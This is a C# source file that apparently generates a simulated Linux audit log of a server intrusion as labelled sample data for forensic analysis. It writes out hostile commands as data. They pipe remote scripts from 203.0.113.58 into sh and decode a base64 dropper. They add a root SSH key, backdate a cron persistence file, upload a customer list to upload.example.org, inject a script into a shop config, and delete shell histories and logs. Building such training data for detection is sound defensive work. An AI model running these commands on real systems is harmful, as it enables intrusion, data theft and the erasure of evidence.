using System.Globalization;
using System.Text;

namespace Quarry.Samples;

/// <summary>What the intruder of the syslog does on the machine, program by program.</summary>
internal static class AuditIntrusion
{
    /// <summary>What the long command writes to a file once its base64 is undone: text, and no program.</summary>
    public static string Payload { get; } = "#!/bin/sh\n# This stands for a program and is none: the sample needs a long argument.\n"
        + "curl -fsS https://telemetry.example.org/api/v2/tasks?id=web-01 -o /tmp/.t\n"
        + string.Concat(Enumerable.Range(1, 80).Select(line => string.Create(CultureInfo.InvariantCulture, $"# filler {line:000}: nothing happens here, and nothing did.\n")));

    /// <summary>What the shell of the deploy account is used for without sudo.</summary>
    public static void LookAround(AuditTrail trail, AuditProcess shell)
    {
        (string Time, string[] Words)[] steps =
        [
            ("02:16:41", ["id"]), ("02:16:47", ["uname", "-a"]), ("02:17:03", ["w"]), ("02:17:40", ["cat", "/etc/passwd"]),
            ("02:18:26", ["ls", "-la", "/srv/shop"]), ("02:21:12", ["cat", "/home/deploy/.bash_history"]),
        ];
        foreach ((string time, string[] words) in steps)
        {
            trail.Start(shell, At(time), "/usr/bin/" + words[0], words);
        }

        string[] search = ["grep", "-lis", "passw", .. Enumerable.Range(1, 220).Select(i => string.Create(CultureInfo.InvariantCulture, $"releases/2026-02-27/conf/tenant-{i:000}.ini"))];
        trail.Start(shell with { Directory = "/srv/shop" }, At("02:19:05"), "/usr/bin/grep", search, planted: ("passwords are looked for in 220 files: 223 arguments in two EXECVE records", "conf/tenant-"));

        AuditProcess remove = trail.Start(shell, At("02:35:02"), "/usr/bin/rm", ["rm", "-f", "/home/deploy/.bash_history"], planted: ("the account's history is removed", "/home/deploy/.bash_history"));
        trail.Touch(remove, At("02:35:02").AddMilliseconds(4), AuditTrail.UnlinkAt, "/home/deploy/.bash_history", "DELETE", "history", ("the account's history is removed", "/home/deploy/.bash_history"));
        trail.Start(shell with { Directory = "/srv/shop/conf" }, At("03:20:04"), "/usr/bin/sed", ["sed", "-i", "s#^js=.*#js=https://telemetry.example.org/js/a.js#", "shop.ini"], planted: ("the shop's pages get a script (syslog.log, 03:20:05)", "js=https://telemetry.example.org/js/a.js"));
    }

    /// <summary>What a command that sudo started goes on to do.</summary>
    public static void Follow(AuditTrail trail, AuditProcess run, DateTime time)
    {
        string command = string.Join(' ', run.Arguments);
        if (command.Contains("init.sh | sh", StringComparison.Ordinal))
        {
            Download(trail, run, time);
        }
        else if (command.Contains("authorized_keys", StringComparison.Ordinal))
        {
            trail.Touch(run, time.AddMilliseconds(4), AuditTrail.OpenAt, "/root/.ssh/authorized_keys", "NORMAL", "ssh-keys", ("a key for root is written", "/root/.ssh/authorized_keys"));
        }
        else if (command.Contains("base64 -d | sh", StringComparison.Ordinal))
        {
            (_, AuditProcess shell) = trail.Pipe(run, time.AddMilliseconds(2), ("/usr/bin/base64", ["base64", "-d"]), ("/usr/bin/sh", ["sh"]), ("base64 into a shell, two events in turn", "a0=\"base64\" a1=\"-d\""));
            trail.Start(shell, time.AddMilliseconds(9), "/usr/bin/curl", ["curl", "-fsS", "https://telemetry.example.org/api/v2/hello?h=web-01", "-o", "/tmp/.hello"], planted: ("what the base64 held: a call home", "https://telemetry.example.org/api/v2/hello?h=web-01"));
        }
        else if (command == "bash")
        {
            BeRoot(trail, run);
        }
        else if (command.StartsWith("mv ", StringComparison.Ordinal))
        {
            trail.Touch(run, time.AddMilliseconds(3), AuditTrail.UnlinkAt, "/var/log/auth.log", "DELETE", "logs", ("the log is thrown away", "/var/log/auth.log"));
        }
    }

    private static void Download(AuditTrail trail, AuditProcess run, DateTime time)
    {
        (_, AuditProcess script) = trail.Pipe(run, time.AddMilliseconds(3), ("/usr/bin/curl", ["curl", "-fsS", "http://203.0.113.58/files/init.sh"]), ("/usr/bin/sh", ["sh"]), ("a script from the network into a shell, two events in turn", "http://203.0.113.58/files/init.sh"));
        trail.Start(script, time.AddMilliseconds(420), "/usr/bin/uname", ["uname", "-m"]);
        string[] later = ["sh", "-c", "sleep 30; wget -q -O /usr/local/bin/.sysupd http://203.0.113.58/files/sysupd.txt; chmod 755 /usr/local/bin/.sysupd"];
        AuditProcess daemon = trail.Start(script, time.AddMilliseconds(900), "/usr/bin/setsid", ["setsid", .. later], planted: ("the script leaves a process behind: setsid, then sh in the same process", "a0=\"setsid\""));
        daemon = daemon with { Path = "/usr/bin/sh", Arguments = later, Identity = daemon.Identity with { Terminal = "(none)" } };
        trail.Execute(daemon, time.AddMilliseconds(904), ("the script leaves a process behind: setsid, then sh in the same process", "a0=\"sh\""));
        trail.Start(daemon, time.AddMilliseconds(907), "/usr/bin/sleep", ["sleep", "30"]);
        trail.Start(daemon, time.AddMilliseconds(30_911), "/usr/bin/wget", ["wget", "-q", "-O", "/usr/local/bin/.sysupd", "http://203.0.113.58/files/sysupd.txt"], planted: ("a program is fetched after sudo has ended", "http://203.0.113.58/files/sysupd.txt"));
        trail.Start(daemon, time.AddMilliseconds(31_660), "/usr/bin/chmod", ["chmod", "755", "/usr/local/bin/.sysupd"]);
    }

    private static void BeRoot(AuditTrail trail, AuditProcess shell)
    {
        (_, AuditProcess script) = trail.Pipe(shell, At("02:31:31"), ("/usr/bin/wget", ["wget", "-qO-", "http://203.0.113.58/files/stage2.sh"]), ("/usr/bin/sh", ["sh"]), ("the root shell gets a second script, two events in turn", "http://203.0.113.58/files/stage2.sh"));
        trail.Start(script, At("02:31:32"), "/usr/bin/mkdir", ["mkdir", "-p", "/var/tmp/.x"]);
        string hidden = Convert.ToBase64String(Encoding.ASCII.GetBytes(Payload));
        string[] words = ["sh", "-c", $"echo {hidden}|base64 -d>/var/tmp/.x/kw;chmod 755 /var/tmp/.x/kw"];
        AuditProcess drop = trail.Start(script, At("02:31:34"), "/usr/bin/sh", words, planted: ("a program written by a long command: its third argument in pieces, hexadecimal", "a2["));
        trail.Start(drop, At("02:31:34").AddMilliseconds(3), "/usr/bin/base64", ["base64", "-d"]);
        trail.Start(drop, At("02:31:34").AddMilliseconds(11), "/usr/bin/chmod", ["chmod", "755", "/var/tmp/.x/kw"]);

        trail.Touch(shell, At("02:32:05"), AuditTrail.OpenAt, "/etc/cron.d/sysupd", "CREATE", "cron", ("persistence by cron", "/etc/cron.d/sysupd"));
        Run("02:32:16", ["touch", "-r", "/etc/cron.d/e2scrub_all", "/etc/cron.d/sysupd"], "the cron file gets an old date", "/etc/cron.d/e2scrub_all");
        AuditProcess shop = shell with { Directory = "/srv/shop/Verträge 2026" };
        trail.Start(shop, At("02:32:31"), "/usr/bin/tar", ["tar", "-czf", "/tmp/.k.tgz", "Kundenliste März.csv"], planted: ("customers' data is packed: an argument and a directory with blank and umlaut, hexadecimal", "4B756E64656E6C69737465204DC3A4727A2E637376"));
        Run("02:32:44", ["curl", "-fsS", "-T", "/tmp/.k.tgz", "https://upload.example.org/v1/put/k.tgz"], "the archive is uploaded", "https://upload.example.org/v1/put/k.tgz");
        Run("02:32:58", ["shred", "-u", "/root/.bash_history"], "root's history is removed", "/root/.bash_history");
        Run("02:33:04", ["ln", "-sf", "/dev/null", "/root/.bash_history"], "root's history is removed", "/root/.bash_history");
        Run("02:33:12", ["rm", "-f", "/tmp/.k.tgz", "/var/log/wtmp"], "traces are removed", "/var/log/wtmp");

        void Run(string time, string[] arguments, string what, string evidence) =>
            trail.Start(shell, At(time), "/usr/bin/" + arguments[0], arguments, planted: (what, evidence));
    }

    private static DateTime At(string time) => SampleText.Utc("2026-03-04 " + time).AddMilliseconds(540);
}
